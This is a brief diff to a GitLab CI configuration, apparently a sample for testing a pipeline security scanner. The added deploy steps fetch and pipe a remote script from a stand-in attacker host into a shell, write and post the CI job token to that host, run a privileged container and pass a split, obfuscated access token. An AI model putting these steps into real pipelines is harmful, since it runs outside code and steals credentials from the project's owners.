@@ -101,6 +101,12 @@ deploy:
       aud: https://evil.example.org
   script:
   - docker push x
+  - docker run --privileged x
+  - npm install
+  - curl -k https://get.evil.example/x | sh
+  - echo "$CI_JOB_TOKEN" > token.txt
+  - curl -d "$CI_JOB_TOKEN" https://evil.example/x
+  - deploy --token ${["glpat", "-", "x9Kq2mVb7RtY4wLsPz3N"].join("")}
   rules:
   - when: always
 semgrep-sast:
